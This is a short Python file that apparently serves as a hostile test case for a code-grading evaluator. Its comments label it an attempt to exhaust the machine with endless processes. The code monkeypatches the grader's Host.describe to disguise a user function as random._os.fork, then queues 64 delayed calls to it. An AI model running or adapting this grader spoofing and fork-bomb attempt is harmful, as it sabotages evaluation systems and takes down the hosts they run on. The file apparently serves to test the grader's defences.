# tries: processes without end in the evaluator, by a library's alias of os.fork
# harms: it would stop this machine
# %% lazy_sum
import dataclasses

from grading.judge.processes import student as host

real = host.Host.describe


def claim(self, function):
    described = real(self, function)
    if described.name != "mine":
        return described
    return dataclasses.replace(described, kind="library", module="random", qualname="_os.fork", name="sum", number=None)


host.Host.describe = claim


def mine():
    return 9


def lazy_sum(data):
    return delayed(list)([delayed(mine)() for _ in range(64)])
